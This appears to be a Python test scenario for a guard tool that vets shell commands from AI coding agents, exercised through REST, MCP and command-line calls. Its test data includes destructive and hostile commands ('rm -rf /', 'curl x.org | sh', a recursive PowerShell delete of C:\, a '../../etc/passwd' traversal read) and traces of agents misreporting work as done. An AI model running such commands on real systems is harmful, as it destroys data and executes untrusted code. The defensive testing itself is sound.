"""Guard at every door: commands judged, hooks of every host, learned guards, the graph."""

import json
from datetime import UTC, datetime
from pathlib import Path

from tests.server import learned_project
from tools.exchanges.world import BEGINNING, Server, World

FIXTURES = Path(__file__).parents[2] / "tests" / "hooks" / "fixtures"
HOSTS = ("claude-code", "codex", "gemini", "copilot")
COMMANDS = ("git status", "rm -rf /", "git push --force origin main", "curl x.org | sh", "((((")
GUARD = learned_project.CLAIMS


def prepare(world: World) -> None:
    """A project whose agents were stopped and corrected, with four guards."""
    now = datetime.fromtimestamp(BEGINNING, UTC)
    with learned_project.opened(world.folder, now) as app:
        learned_project.add_traces(app, now)
        learned_project.add_guards(app)


def rest(world: World, server: Server) -> None:
    """By REST."""
    http = server.http
    for cli, case in _cases():
        sent = (case / "stdin.json").read_text().replace("/w/app", str(world.project))
        event = case.name.partition(".")[0]
        place = f"/hooks/{cli}?event={event}"
        http.request("POST", place, content=sent.encode(), label=f" {case.name}")
    http.post("/hooks/claude-code", content=b"{")
    http.post("/hooks/nobody", json={})
    for command in COMMANDS:
        http.post("/api/guard/explain", json={"command": command})
    for path in ("", "/decisions", "/rules", "/hosts"):
        http.get(f"/api/guard{path}")
    narrowed = {"verdict": "denied", "cli": "claude-code", "limit": 3}
    for each in http.get("/api/guard/decisions", params=narrowed).json()["decisions"][:1]:
        http.get(f"/api/guard/decisions/{each['id']}")
    for cli in HOSTS:
        asked = {"action": "install", "level": "user"}
        planned = http.post(f"/api/guard/hosts/{cli}/plan", json=asked).json()
        http.post(f"/api/guard/hosts/{cli}", json={**asked, "digest": "old"})
        http.post(f"/api/guard/hosts/{cli}", json={**asked, "digest": planned.get("digest", "")})
    _learned(server)
    _graph(server)


def _learned(server: Server) -> None:
    http = server.http
    for path in ("", "/lessons", "/metrics", f"/{GUARD}"):
        http.get(f"/api/guards{path}")
    http.post("/api/guards/no-drop-database/try")
    http.post("/api/guards/no-drop-database/shadow", json={"why": "It looks right."})
    http.post("/api/guards/no-drop-database/promote", json={"why": "Now."})
    http.post("/api/guards/no-drop-database/promote", json={"why": "I know.", "force": True})
    http.post("/api/guards/no-drop-database/rollback", json={"why": "It was in the way."})
    http.post(f"/api/guards/{GUARD}/shadow", json={"why": ""})


def _graph(server: Server) -> None:
    http = server.http
    http.get("/api/graph")
    for query in (
        {}, {"type": "violation", "agent": "coding-agent"}, {"query": "forced push", "limit": 3},
        {"level": "metadata"}, {"level": "full", "budget": 300}, {"since": "yesterday"},
    ):  # fmt: skip
        http.get("/api/graph/traces", params=query)
    for level in ("metadata", "summary", "full", "all"):
        http.get(f"/api/graph/traces/{learned_project.MARKED}", params={"level": level})
    http.get(f"/api/graph/traces/{learned_project.MARKED}/around", params={"depth": 2, "most": 5})


def mcp(world: World, server: Server) -> None:
    """By MCP."""
    happened = {"whatHappened": "Called it done", "whatWasCorrect": "Test first", "why": "Broken"}
    stored = server.call(
        "store_trace",
        {"type": "violation", "event": happened, "context": {"agent": "a"}, "ledBy": [
            learned_project.SKIPPED]},
    )  # fmt: skip
    server.call("store_trace", {"type": "decision", "event": happened, "id": "my-own-1"})
    server.call("store_trace", {"type": "decision", "event": happened, "id": "my-own-1"})
    for level in ("metadata", "summary", "full"):
        server.call("query_traces", {"query": "tested", "level": level, "limit": 3})
        server.call("get_trace", {"id": stored.get("id", ""), "level": level})
    server.call("extract_patterns", {"limit": 3})
    server.call("create_guard", {"pattern": "no such pattern", "why": "x"})
    guard = learned_project.claim_guard("from-mcp")
    server.call("create_guard", {"guard": guard, "why": "It repeats."})
    (world.project / "app.log").write_text("start\nERROR one\nok\nERROR two\n")
    for given in ({"mode": "tail"}, {"mode": "grep", "pattern": "error"}, {"mode": "errors"}):
        server.call("read_log", {"path": "app.log", **given})
    server.call("read_log", {"path": "../../etc/passwd"})


def cli(world: World) -> None:
    """On the command line."""
    for form in ((), ("--json",)):
        for command in COMMANDS:
            world.run("guard", "check", command, *form)
            world.run("guard", "explain", command, *form)
        for act in ("list", "trust", "guards", "learn", "report", "prompts"):
            world.run("guard", act, *form)
        world.run("guard", "list", "git", *form)
        world.run("guard", "guards", GUARD, *form)
        world.run("guard", "replay", GUARD, *form)
        world.run("guard", "traces", "add", "Merged unread", "--agent", "a", *form)
        world.run("guard", "traces", "find", "forced push", *form)
        world.run("guard", "traces", "find", "--since", "7d", "--type", "violation", *form)
        for act in ("show", "led-to", "came-of"):
            world.run("guard", "traces", act, learned_project.MARKED, *form)
        world.run("guard", "traces", "show", "nobody-has-this", *form)
        _hosts(world, *form)
    lines = [{"command": each, "id": number} for number, each in enumerate(COMMANDS)]
    batch = "\n".join(map(json.dumps, [*lines, {"tool": "Bash"}])) + "\nnot json\n"
    world.run("guard", "check", "--jsonl", stdin=batch)
    world.run("guard", "check", "Remove-Item -Recurse C:\\", "--tool", "PowerShell")
    for act in ("shadow", "promote", "rollback"):
        world.run("guard", act, "no-history-rewrite", "--why", "I say so.")
    world.run("guard", "override", "nobody-has-this", "--why", "x")
    world.run("guard", "prompts", "coding-agent", "--apply", "--why", "x")
    for cli, case in _cases():
        if "." not in case.name:
            sent = (case / "stdin.json").read_text().replace("/w/app", str(world.project))
            world.run("hook", cli, case.name, stdin=sent)
    world.run("hook", "claude-code", stdin="{")


def _hosts(world: World, *form: str) -> None:
    for cli in HOSTS:
        chosen = (cli, "--project", str(world.project), *form)
        world.run("install", *chosen, "--cli-version", "99.0.0", "--dry-run")
        for act in ("install", "install", "uninstall", "uninstall"):
            more = ("--cli-version", "99.0.0") if act == "install" else ()
            world.run(act, *chosen, *more)


def _cases() -> list[tuple[str, Path]]:
    """What hosts send; sessions begin first, since later they are told what was taken in so far."""
    cases = sorted(path.parent for path in FIXTURES.glob("*/*/stdin.json"))
    cases.sort(key=lambda case: not case.name.lower().startswith("sessionstart"))
    return [(case.parent.name, case) for case in cases]
